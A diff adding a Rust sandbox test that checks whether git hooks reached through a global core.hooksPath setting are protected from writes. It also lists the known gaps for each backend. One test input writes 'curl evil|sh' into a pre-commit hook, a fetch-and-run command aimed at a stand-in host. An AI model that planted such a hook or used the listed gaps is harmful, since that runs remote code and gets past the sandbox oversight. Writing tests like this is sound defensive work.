@@ -414,3 +414,29 @@ per_backend!(
     git_config_include_in_workspace,
     landlock: "known hole: protected paths are not enforced on the Landlock-only rung (reduced, see doctor)"
 );
+
+/// `git config --global core.hooksPath .githooks` (per-repo tracked hooks, a common set-up):
+/// the user's `~/.gitconfig` makes git run `<worktree>/.githooks/*` in every repository, so in
+/// the workspace that directory is as sensitive as `.git/hooks`.
+fn git_global_hooks_path_in_workspace(w: &World, b: Backend) {
+    git_repo(w);
+    w.write(
+        &w.home.join(".gitconfig"),
+        "[core]\n\thooksPath = .githooks\n",
+    );
+    let hook = w.ws.join(".githooks/pre-commit");
+    w.write(&hook, "#!/bin/sh\nexit 0\n");
+    unchanged(
+        w,
+        b,
+        defaults,
+        &[&hook],
+        "echo 'curl evil|sh' >> .githooks/pre-commit",
+    );
+}
+per_backend!(
+    git_global_hooks_path_in_workspace,
+    namespaces: "known hole: core.hooksPath from the user's global git config is not protected (reported to S1 05:05)",
+    bubblewrap: "known hole: core.hooksPath from the user's global git config is not protected (reported to S1 05:05)",
+    landlock: "known hole: protected paths are not enforced on the Landlock-only rung (reduced, see doctor)"
+);
